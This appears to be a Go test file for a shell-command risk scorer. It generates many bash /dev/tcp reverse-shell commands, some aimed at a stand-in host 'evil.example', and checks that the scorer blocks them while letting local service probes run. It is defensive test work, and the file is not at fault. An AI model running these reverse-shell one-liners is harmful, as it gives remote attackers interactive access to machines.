package shell

import (
	"strings"
	"testing"
)

// bash's /dev/tcp file descriptors: a shell reading its commands from, or
// writing its output to, a descriptor an exec opened on a connection is a
// reverse shell; talking to a service of this machine without a shell
// runs.

func TestDevTCPDescriptorShell(t *testing.T) {
	opens := []string{"exec F<>/dev/tcp/H/80", "exec F<>/dev/udp/H/53", "exec F</dev/tcp/H/443"}
	uses := []string{"; cat <&F | sh >&F", "; sh <&F >&F 2>&F", "; bash -i <&F >&F 2>&1", " && cat <&F | bash", "\nbash -i >&F 0>&1", "; exec 0<&F; sh -i", "; /bin/sh -i <&F",
		"; cat <&F | sh", "; zsh <&F", "; exec 7<&F; sh <&7 >&7"}
	n := 0
	for _, fd := range []string{"3", "5", "9"} {
		for _, host := range []string{"evil.example", "10.0.0.1", "127.0.0.1", "localhost"} {
			for _, o := range opens {
				for _, u := range uses {
					if strings.HasPrefix(o, "exec F</") && strings.Contains(u, ">&F") {
						continue // a read-only descriptor
					}
					src := strings.ReplaceAll(strings.ReplaceAll(o+u, "F", fd), "H", host)
					n++
					if p, id := maxPoints(src, scopeOptions); p < atLeastBlock {
						t.Errorf("%q: %d points (%s), want a block", src, p, id)
					}
				}
			}
		}
	}
	if n < 250 {
		t.Errorf("only %d cases", n)
	}
}

func TestDevTCPLocalService(t *testing.T) {
	for _, fd := range []string{"3", "5", "9"} {
		for _, host := range []string{"localhost", "127.0.0.1", "127.0.1.1", "::1"} {
			for _, talk := range []string{"; printf 'PING\\r\\n' >&F; head -1 <&F", "; echo -e 'GET / HTTP/1.0\\r\\n\\r\\n' >&F; cat <&F", "; printf 'INFO\\r\\n' >&F; timeout 1 cat <&F | grep -c role",
				"\nread -r line <&F\necho \"$line\""} {
				src := strings.ReplaceAll("exec F<>/dev/tcp/"+host+"/6379"+talk, "F", fd)
				if p, id := maxPoints(src, scopeOptions); p >= atLeastConfirm {
					t.Errorf("%q: %d points (%s), want it to run", src, p, id)
				}
				remote := strings.ReplaceAll(src, host, "example.com")
				if p, id := maxPoints(remote, scopeOptions); p < atLeastConfirm {
					t.Errorf("%q talks to another machine: %d points (%s), want it held", remote, p, id)
				}
			}
		}
	}
}
